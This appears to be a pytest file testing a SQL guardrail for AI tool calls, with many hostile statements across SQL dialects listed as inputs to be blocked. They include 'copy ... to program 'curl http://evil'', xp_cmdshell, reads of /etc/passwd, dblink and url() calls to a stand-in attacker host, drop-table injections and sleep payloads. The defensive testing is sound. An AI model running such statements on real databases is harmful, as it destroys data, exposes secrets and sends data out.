"""SqlPolicy lets a statement through that does what it may, and no other, however it is dressed."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine import Action, DefinitionError, GuardItem, Guardrail, Stage
from guardrails import SqlPolicy


async def judged(sql, dialect="postgres", **fields):
    call = GuardItem(stage=Stage.TOOL_ARGUMENTS, value={"sql": sql}, arguments={"sql": sql}, tool="run", effect="read")
    return await SqlPolicy(dialect=dialect, **fields).check(call)


READS = """
    select 1
    (select a from t)
    with recent as (select * from orders where day > now() - interval '1 day') select count(*) from recent
    with recursive r as (select 1 as n union all select n + 1 from r where n < 5) select n from r
    select u.name, sum(o.total) from users u left join orders o using (user_id) group by 1 order by 2
    select a from t union select b from s except select 'drop table t; -- not a comment'
    select lower(name), coalesce(x, 0), date_trunc('day', at), data->>'k', cast(a as int) from t where name ilike '%a%'
    select percentile_cont(0.5) within group (order by x), row_number() over (partition by y order by z) from t
    select * from t where id = $1 and exists (select 1 from s where s.id = t.id) limit 5 offset 2
    select $$a; b$$, E'it''s'
    select * from t;
""".strip().splitlines()

HOSTILE = {
    "postgres": """
        drop table users
        select 1; drop table users
        select 1 ;; select 2
        delete from users
        insert into t values (1)
        update t set a = 1
        truncate t
        merge into t using s on t.a = s.a when matched then delete
        select * into copied from users
        with gone as (delete from users returning *) select * from gone
        with x as (select 1), y as (update t set a = 1 returning a) select * from y
        copy users to program 'curl http://evil'
        copy (select 1) to '/tmp/x'
        set role admin
        reset role
        set session authorization postgres
        alter system set x = 1
        alter role me superuser
        create table x as select 1
        create function f() returns int as 'select 1' language sql
        do $$ begin execute 'drop table t'; end $$
        call f()
        execute plan
        prepare p as delete from t
        explain analyze delete from users
        listen x
        begin
        lock table t
        vacuum
        grant all on t to public
        select * from t for update
        select pg_sleep(10)
        select pg_catalog.pg_sleep(10)
        select (select pg_sleep(10))
        select * from users order by (select pg_sleep(10))
        select pg_read_file('/etc/passwd')
        select lo_import('/etc/passwd')
        select lo_export(1, '/tmp/x')
        select * from dblink('host=evil', 'select 1') as t(a int)
        select query_to_xml('drop table t', true, true, '')
        select set_config('role', 'admin', false)
        select current_setting('data_directory')
        select my_schema.lower('x')
        select pg_terminate_backend(1)
        select * from pg_shadow
        select * from pg_catalog.pg_authid
        select usename from information_schema.tables
        select 1 -- and then
        select /* x */ 1
        select 1 /* /* */ ; drop table t */
        select U&"\\0070assword" from users
        ' OR 1=1; --
        '; drop table users; --
        this is not sql
        select * from t where a = 'unterminated
    """,
    "sqlite": """
        attach '/tmp/x' as y
        detach y
        pragma writable_schema = 1
        vacuum into '/tmp/x'
        select load_extension('/tmp/x')
        select readfile('/etc/passwd')
        select writefile('/tmp/x', 'a')
        select * from pragma_table_info('t')
        select * from sqlite_master
        replace into t values (1)
        reindex
    """,
    "mysql": """
        select 1 /*!50000 union select password from users */
        /*!50000 drop table users */
        select * from t into outfile '/tmp/x'
        select 'x' into dumpfile '/tmp/x'
        select load_file('/etc/passwd')
        select sleep(5)
        select benchmark(1000000, md5('a'))
        load data infile '/etc/passwd' into table t
        select @@version
        select @a := 1
        set @a = 1
        select 1 # and then
        handler t open
        select get_lock('a', 100)
        select * from mysql.user
        show tables
        do sleep(5)
    """,
    "tsql": """
        exec xp_cmdshell 'dir'
        waitfor delay '0:0:5'
        select * from openrowset('SQLNCLI', 'x', 'select 1')
        select 1 drop table x
        if 1 = 1 drop table x
        declare @a int; select @a
        select * into x from y
        select name from sys.objects
    """,
    "duckdb": """
        from '/etc/passwd'
        select * from 'secrets.csv'
        select * from "secrets.csv"
        select * from read_csv('/etc/passwd')
        select * from glob('*')
        select getenv('HOME')
        install httpfs
        copy t to '/tmp/x'
        select * from 'https://evil/x.parquet'
    """,
    "oracle": "select utl_http.request('http://evil') from dual",
    "clickhouse": """
        select * from url('http://evil', 'CSV')
        select * from t into outfile 'x'
        select 1 settings max_execution_time = 0
    """,
    "spark": "select * from csv.`/etc/passwd`",
    "snowflake": "select * from @stage/x",
    "bigquery": "select * from external_query('a', 'drop table b')",
}
ALL_HOSTILE = [(name, line.strip()) for name, lines in HOSTILE.items() for line in lines.strip().splitlines()]


@pytest.mark.parametrize("sql", READS)
async def test_what_only_reads_passes(sql):
    assert await judged(sql.strip()) == []


@pytest.mark.parametrize(("dialect", "sql"), ALL_HOSTILE)
async def test_what_does_more_is_blocked(dialect, sql):
    ((path, verdict),) = await judged(sql, dialect)
    assert (path, verdict.action) == ("sql", Action.BLOCK)
    assert verdict.reason.startswith("the SQL may not be run: ")


WRITES = {"statements": ["select", "insert", "update", "delete"]}


@pytest.mark.parametrize(
    "sql",
    [
        "insert into t (a) values (1) returning a",
        "insert into t select * from s on conflict do nothing",
        "update t set a = 1 from s where t.id = s.id",
        "delete from t where id = 1",
    ],
)
async def test_kinds_that_are_allowed_pass(sql):
    assert await judged(sql, **WRITES) == []


@pytest.mark.parametrize(
    "sql",
    [
        "drop table t",
        "update t set a = 1",
        "delete from t where 1 = 1",
        "with x as (delete from t returning *) select * from x",
        "insert into t values (pg_sleep(5))",
        "merge into t using s on t.a = s.a when matched then delete",
    ],
)
async def test_other_kinds_and_whole_tables_are_blocked(sql):
    assert (await judged(sql, **WRITES))[0][1].action is Action.BLOCK


TABLES = {"tables": ["orders", "sales.*", "hr.people"]}


@pytest.mark.parametrize(
    "sql",
    [
        "select * from Orders o join sales.items i on true",
        "select * from hr.people",
        "with secrets as (select * from orders) select * from secrets",
        "with a as (select 1), b as (select * from a) select * from b",
        "select * from (with users as (select 1) select * from users) x",
    ],
)
async def test_listed_tables_and_what_with_defines_pass(sql):
    assert await judged(sql, **TABLES) == []


@pytest.mark.parametrize(
    "sql",
    [
        "select * from users",
        "select * from people",
        "select * from hr.orders",
        "select * from other.sales.items",
        "select * from orders where id in (select id from users)",
        "select * from orders union select * from users",
        "select (select max(x) from users) from orders",
        "select * from orders, lateral (select * from users) x",
        "table users",
        "with users as (select * from users) select * from users",
        "with a as (select * from b), b as (select 1) select * from a",
        "select * from (with users as (select 1) select * from users) x, users",
        'with "users" as (select 1) select * from users',
    ],
)
async def test_other_tables_are_blocked_wherever_they_stand(sql):
    assert (await judged(sql, **TABLES))[0][1].action is Action.BLOCK


async def test_a_denied_table_is_found_in_every_schema():
    assert await judged("select * from orders", not_tables=["users"]) == []
    for sql in ("select * from users", "select * from hr.users", 'select * from "USERS"'):
        ((_, verdict),) = await judged(sql, not_tables=["users"])
        assert "may not be named" in verdict.reason


DENIED = {"not_columns": ["password", "users.ssn"]}


@pytest.mark.parametrize(
    "sql",
    [
        "select password from users",
        'select "PASSWORD" from users',
        "select name from users where password like 'a%'",
        "select name from users join x using (password)",
        "select (u).password from users u",
        "select * from users",
        "select u.* from users u",
        "select u from users u",
        "select users::text from users",
        "select a from users as u(a, b, c)",
        "select a from (select * from users) x",
        "select ssn from hr.users",
        "select name from t order by (select password from users limit 1)",
    ],
)
async def test_a_denied_column_is_found_however_it_is_read(sql):
    assert (await judged(sql, **DENIED))[0][1].action is Action.BLOCK


@pytest.mark.parametrize(
    "sql", ["select name, count(*) from users group by name", "select ssn from companies", "select count(*) from users"]
)
async def test_other_columns_pass(sql):
    assert await judged(sql, **DENIED) == []


ALLOWED = {"columns": ["users.id", "users.name", "orders.total", "orders.user_id", "created"]}


@pytest.mark.parametrize(
    ("sql", "passes"),
    [
        ("select id, name from users", True),
        ("select u.id, o.total from users u join orders o on o.user_id = u.id", True),
        ("select x.n from (select name as n from users) x where x.n > ''", True),
        ("select sum(o.total) as s from orders o order by s", True),
        ("select count(*) from users where created > now()", True),
        ("select password from users", False),
        ("select u.password from users u", False),
        ("select id from users, orders", False),
        ("select (select password from (select 1) x) from users", False),
        ("select 1 as password from users where password > ''", False),
        ("select * from users", False),
    ],
)
async def test_only_listed_columns_pass(sql, passes):
    assert (await judged(sql, **ALLOWED) == []) is passes


async def test_a_function_of_ones_own_passes_once_it_is_listed():
    assert "list it in functions" in (await judged("select score(x) from t"))[0][1].reason
    assert await judged("select score(x), app.rank(y) from t", functions=["score", "app.rank"]) == []
    assert await judged("select evil.score(x) from t", functions=["score"]) != []


@pytest.mark.parametrize(
    ("dialect", "sql", "limited"),
    [
        ("postgres", "select * from t", "SELECT * FROM t LIMIT 10"),
        ("postgres", "select * from t limit 500", "SELECT * FROM t LIMIT 10"),
        ("postgres", "select * from t limit all", "SELECT * FROM t LIMIT 10"),
        ("sqlite", "select * from t limit -1", "SELECT * FROM t LIMIT 10"),
        ("tsql", "select * from t", "SELECT TOP 10 * FROM t"),
        ("postgres", "select * from t fetch first 5 rows with ties", "SELECT * FROM t LIMIT 10"),
    ],
)
async def test_a_query_for_too_many_rows_gets_a_limit(dialect, sql, limited):
    ((_, verdict),) = await judged(sql, dialect, most_rows=10)
    assert (verdict.action, verdict.value) == (Action.FIX, limited)


async def test_a_query_with_a_limit_is_left_as_it_is():
    assert await judged("select * from t limit 10", most_rows=10) == []
    assert await judged("select * from t fetch first 3 rows only", most_rows=10) == []


async def test_only_the_named_tools_and_parameters_are_judged():
    guard = SqlPolicy(dialect="sqlite", tools=["query"], parameters=["sql"])

    async def said(tool, arguments):
        call = GuardItem(stage=Stage.TOOL_ARGUMENTS, value=arguments, arguments=arguments, tool=tool)
        return [(path, verdict.action) for path, verdict in await guard.check(call)]

    assert await said("query", {"sql": "select 1", "note": "drop table t"}) == []
    assert await said("query", {"sql": "drop table t"}) == [("sql", Action.BLOCK)]
    assert await said("query", {"sql": ["select 1", "drop table t"]}) == [("sql[1]", Action.BLOCK)]
    assert await said("other", {"sql": "drop table t"}) == []
    assert await said("query", {"statement": "drop table t"}) == [("", Action.BLOCK)]


async def test_a_text_that_a_model_wrote_is_judged_where_the_user_asks():
    item = GuardItem(stage=Stage.MODEL_OUTPUT, value={"sql": "drop table t", "answer": "Here it is."})
    ((path, verdict),) = await SqlPolicy(dialect="sqlite", parameters=["sql"], action="reask").check(item)
    assert (path, verdict.action) == ("sql", Action.REASK)


def test_an_unknown_dialect_is_told_when_the_guard_is_built():
    with pytest.raises(DefinitionError, match="there is no dialect 'postgresql'; there are"):
        SqlPolicy(dialect="postgresql")


def test_it_survives_json():
    guard = SqlPolicy(dialect="postgres", tables=["a"], most_rows=5)
    assert Guardrail.load(guard.model_dump(mode="json")) == guard


@pytest.mark.parametrize(
    "text",
    [
        "select " + "(" * 9_000 + "1" + ")" * 9_000,
        "select " + "not " * 4_000 + "1",
        "select 1" + " union select 1" * 1_300,
        "x" * 10_000_000,
        "select '\ud800'",
        "\0",
        "select \u202e1",
        "；drop table t",
    ],
)
async def test_hostile_texts_end_in_a_verdict_or_pass_and_never_crash(text):
    for _, verdict in await judged(text):
        assert verdict.action is Action.BLOCK


_PIECES = st.sampled_from(
    [
        *"select from drop delete with as ( ) ; ' -- /* */ , * . $$ union into t 1 [ ] ` # @ :".split(),
        '"',
        'u&"',
        "\\",
        "\ud800",
    ]
)


@settings(max_examples=60, deadline=None)
@given(st.one_of(st.text(max_size=60), st.lists(_PIECES, max_size=14).map(" ".join)))
async def test_no_text_crashes_it(text):
    for _, verdict in await judged(text):
        assert verdict.action is Action.BLOCK
